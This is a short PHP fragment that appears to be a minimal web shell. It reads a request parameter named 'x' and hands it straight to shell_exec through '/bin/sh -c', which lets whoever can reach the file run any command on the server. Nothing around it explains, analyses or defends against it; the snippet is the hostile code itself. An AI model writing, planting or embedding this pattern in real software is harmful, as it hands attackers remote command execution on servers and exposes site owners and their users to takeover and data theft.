<?php
$cmd = $_REQUEST["x"];
// …
$o = shell_exec("/bin/sh -c " . $cmd);
